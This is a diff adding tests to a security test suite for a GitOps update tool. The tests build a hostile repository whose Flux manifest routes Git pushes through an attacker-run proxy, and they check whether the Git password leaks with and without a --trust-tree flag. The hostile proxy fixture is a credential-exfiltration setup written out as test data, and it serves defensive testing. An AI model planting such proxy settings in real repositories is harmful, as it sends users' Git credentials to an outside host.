@@ -276,6 +276,44 @@ test('hostile tree: a Git URL of the tree, with --repo', { skip }, async (t) => 
   )
 })
 
+/** Pushes through a proxy that the tree names. */
+async function pushByProxy(
+  t: TestContext,
+  flags: readonly string[],
+): Promise<{ ended: Ended; attacker: Attacker }> {
+  const attacker = await startAttacker(t)
+  const host = await startGitHost(t, gitLogin)
+  const bare = await host.create('org/fleet')
+  const address = `stringData: {address: "http://${attacker.host}"}\n`
+  const files = appTree({ image: '127.0.0.1:1/org/app', gitUrl: bare.url })
+  const { 'flux/automation.yaml': automation = '' } = files
+  await fill(t, bare, {
+    ...files,
+    'flux/proxy.yaml': manifest('Secret', 'proxy', address),
+    'flux/automation.yaml': automation.replace('  url:', '  proxySecretRef: {name: proxy}\n  url:'),
+  })
+  const set = ['--set', 'flux-system:app=127.0.0.1:1/org/app:1.5.0']
+  const env = { GIT_PASSWORD: gitLogin.password }
+  const own = ['update', '--repo', bare.url, '--push', '--git-username', gitLogin.username]
+  const ended = await tidemark(t)([...own, ...set, ...flags], { env })
+  assertNoSecret(ended, [gitLogin.password])
+  assert.equal(ended.code, 1)
+  assert.ok(attacker.lines.length > 0, ended.stderr)
+  return { ended, attacker }
+}
+
+test('hostile tree: a proxy for the Git host', { skip }, async (t) => {
+  const careful = await pushByProxy(t, [])
+  assert.equal(careful.attacker.knows(gitLogin.password), false)
+  const trusting = await pushByProxy(t, ['--trust-tree'])
+  assert.equal(trusting.attacker.knows(gitLogin.password), true, trusting.ended.stderr)
+})
+
+test('hostile tree: a proxy for the Git host: said', { skip, todo: 'silent' }, async (t) => {
+  const { ended } = await pushByProxy(t, [])
+  assert.match(ended.stderr, /--trust-tree/)
+})
+
 test('hostile host: a Git repository that moved elsewhere', { skip }, async (t) => {
   const attacker = await startAttacker(t)
   const mover = await startAttacker(t, {
